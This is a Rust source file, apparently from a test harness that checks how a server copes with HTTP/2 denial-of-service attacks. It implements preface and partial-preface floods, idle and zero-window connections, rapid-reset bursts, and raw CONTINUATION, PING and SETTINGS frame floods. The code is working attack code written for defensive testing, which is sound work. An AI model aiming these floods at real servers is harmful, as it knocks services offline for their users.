//! Attacks over HTTP/2 (h2c, prior knowledge): floods of prefaces, idle connections, stalled
//! windows, reset floods, and raw frame floods (CONTINUATION, PING, SETTINGS).

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use axum::body::Bytes;
use axum::http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::{Closures, Ctx, Outcome, hold, open_many};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Connections that send the preface and then nothing.
pub(super) async fn preface_flood(ctx: &Ctx<'_>) -> Outcome {
    let mut streams = open_many(ctx.http, ctx.scale.flood).await;
    for stream in &mut streams {
        let _ = stream.write_all(PREFACE).await;
    }
    hold(streams, ctx.scale.past(ctx.scale.header_bound))
        .await
        .bounded("")
}

/// Connections that send part of the preface and then nothing: the protocol sniff must wait
/// for them without spinning.
pub(super) async fn partial_prefaces(ctx: &Ctx<'_>) -> Outcome {
    let n = if ctx.scale.short { 500 } else { 2000 };
    let mut streams = open_many(ctx.http, n).await;
    for stream in &mut streams {
        let _ = stream.write_all(&PREFACE[..10]).await;
    }
    hold(streams, ctx.scale.past(ctx.scale.header_bound))
        .await
        .bounded("")
}

/// An h2c client connection; the task driving it ends when the server closes it.
async fn client(
    addr: SocketAddr,
    builder: &h2::client::Builder,
) -> Result<(h2::client::SendRequest<Bytes>, tokio::task::JoinHandle<()>), String> {
    let tcp = TcpStream::connect(addr).await.map_err(|e| e.to_string())?;
    let (send, connection) = builder
        .handshake::<_, Bytes>(tcp)
        .await
        .map_err(|e| e.to_string())?;
    let driver = tokio::spawn(async move {
        let _ = connection.await;
    });
    Ok((send, driver))
}

fn get(addr: SocketAddr, path: &str) -> Request<()> {
    Request::get(format!("http://{addr}{path}"))
        .body(())
        .unwrap_or_default()
}

/// When each driver task ended (the server closed its connection), within `within`.
async fn closures_of(drivers: Vec<tokio::task::JoinHandle<()>>, within: Duration) -> Closures {
    let opened = drivers.len();
    let start = Instant::now();
    let mut waiting = JoinSet::new();
    for driver in drivers {
        waiting.spawn(async move {
            let _ = driver.await;
            start.elapsed().as_secs_f64()
        });
    }
    let mut after = Vec::new();
    let deadline = tokio::time::Instant::now() + within;
    while let Ok(Some(Ok(secs))) = tokio::time::timeout_at(deadline, waiting.join_next()).await {
        after.push(secs);
    }
    waiting.abort_all();
    Closures { opened, after }
}

/// Connections that make one request, then stay idle.
pub(super) async fn idle(ctx: &Ctx<'_>) -> Outcome {
    let n = if ctx.scale.short { 50 } else { 200 };
    let builder = h2::client::Builder::new();
    let mut drivers = Vec::new();
    let mut senders = Vec::new();
    for _ in 0..n {
        let Ok((send, driver)) = client(ctx.http, &builder).await else {
            continue;
        };
        let Ok(mut send) = send.ready().await else {
            continue;
        };
        if let Ok((response, _)) = send.send_request(get(ctx.http, "/"), true) {
            let _ = tokio::time::timeout(Duration::from_secs(5), response).await;
        }
        senders.push(send);
        drivers.push(driver);
    }
    let closures = closures_of(drivers, ctx.scale.past(ctx.scale.idle_bound)).await;
    drop(senders);
    closures.bounded("")
}

/// Streams whose window is 0, so that no response byte can be sent: the responses wait in
/// the server's memory.
pub(super) async fn zero_window(ctx: &Ctx<'_>) -> Outcome {
    if let Err(err) = super::http1::fill_store(ctx.http).await {
        return Outcome::wrong("", format!("cannot fill the store: {err}"));
    }
    let (connections, streams) = if ctx.scale.short {
        (10, 200)
    } else {
        (40, 200)
    };
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(0);
    let mut drivers = Vec::new();
    let mut pending = Vec::new();
    let mut opened_streams = 0;
    for _ in 0..connections {
        let Ok((mut send, driver)) = client(ctx.http, &builder).await else {
            continue;
        };
        drivers.push(driver);
        for _ in 0..streams {
            // Past the server's stream limit, `ready` waits until a stream ends: never.
            match tokio::time::timeout(Duration::from_secs(1), send.ready()).await {
                Ok(Ok(ready)) => send = ready,
                _ => break,
            }
            match send.send_request(get(ctx.http, "/api/items"), true) {
                Ok((response, _)) => {
                    pending.push(response);
                    opened_streams += 1;
                }
                Err(_) => break,
            }
        }
    }
    let closures = closures_of(drivers, ctx.scale.past(ctx.scale.send_bound)).await;
    drop(pending);
    closures.bounded(&format!("{opened_streams} streams open; "))
}

/// Bursts of requests each reset at once, on one new connection after another.
pub(super) async fn rapid_reset(ctx: &Ctx<'_>) -> Outcome {
    let until = Instant::now() + ctx.scale.burst();
    let builder = h2::client::Builder::new();
    let (mut connections, mut resets) = (0, 0);
    while Instant::now() < until {
        let Ok((send, driver)) = client(ctx.http, &builder).await else {
            continue;
        };
        connections += 1;
        if let Ok(mut send) = send.ready().await {
            for _ in 0..200 {
                match send.send_request(get(ctx.http, "/api/slow?ms=1000"), false) {
                    Ok((_, mut stream)) => {
                        stream.send_reset(h2::Reason::CANCEL);
                        resets += 1;
                    }
                    Err(_) => break,
                }
            }
        }
        let _ = tokio::time::timeout(Duration::from_secs(1), driver).await;
    }
    Outcome::note(format!("{connections} connections, {resets} streams reset"))
}

/// One frame: 9-byte header, then the payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = Vec::with_capacity(9 + payload.len());
    frame.extend_from_slice(&length[1..]);
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

const HEADERS: u8 = 0x1;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;

/// Writes `frames` after the preface and a SETTINGS frame, for at most `within`, without
/// reading; then says how far it got and whether the server closed the connection.
async fn raw_flood(
    addr: SocketAddr,
    frames: impl Iterator<Item = Vec<u8>>,
    within: Duration,
) -> String {
    let Ok(mut stream) = TcpStream::connect(addr).await else {
        return "cannot connect".to_owned();
    };
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    let mut written = 0usize;
    let deadline = tokio::time::Instant::now() + within;
    let mut refused = false;
    if stream.write_all(&start).await.is_ok() {
        for frame in frames {
            match tokio::time::timeout_at(deadline, stream.write_all(&frame)).await {
                Ok(Ok(())) => written += frame.len(),
                Ok(Err(_)) => {
                    refused = true;
                    break;
                }
                Err(_) => break,
            }
        }
    }
    // Stopped writing: either all was sent, the server stopped reading, or it closed.
    let closed = refused || {
        let mut buf = vec![0u8; 64 * 1024];
        let read_until = tokio::time::Instant::now() + Duration::from_secs(2);
        loop {
            match tokio::time::timeout_at(read_until, stream.read(&mut buf)).await {
                Ok(Ok(0) | Err(_)) => break true,
                Ok(Ok(_)) => {}
                Err(_) => break false,
            }
        }
    };
    format!(
        "{} KiB written; {}",
        written >> 10,
        if closed {
            "closed by the server"
        } else {
            "still open, not read"
        }
    )
}

/// A header block that never ends.
pub(super) async fn continuation_flood(ctx: &Ctx<'_>) -> Outcome {
    let count = if ctx.scale.short { 200 } else { 1000 };
    // :method GET, :scheme http, :path / (HPACK static table), no END_HEADERS.
    let first = std::iter::once(frame(HEADERS, END_STREAM, 1, &[0x82, 0x86, 0x84]));
    // Literal header fields without indexing, new name: "x" = 16,000 bytes of "a" each time.
    let mut field = vec![0x00, 0x01, b'x', 0x7f];
    // HPACK integer 16,000 - 127 = 15,873, in 7-bit groups.
    field.extend_from_slice(&[0x81, 0x7c]);
    field.resize(field.len() + 16_000, b'a');
    let rest = (0..count).map(move |_| frame(CONTINUATION, 0, 1, &field));
    Outcome::note(raw_flood(ctx.http, first.chain(rest), ctx.scale.burst()).await)
}

pub(super) async fn ping_flood(ctx: &Ctx<'_>) -> Outcome {
    let pings = (0..100_000u64).map(|i| frame(PING, 0, 0, &i.to_be_bytes()));
    Outcome::note(raw_flood(ctx.http, pings, ctx.scale.burst()).await)
}

pub(super) async fn settings_flood(ctx: &Ctx<'_>) -> Outcome {
    let settings = (0..100_000).map(|_| frame(SETTINGS, 0, 0, &[]));
    Outcome::note(raw_flood(ctx.http, settings, ctx.scale.burst()).await)
}
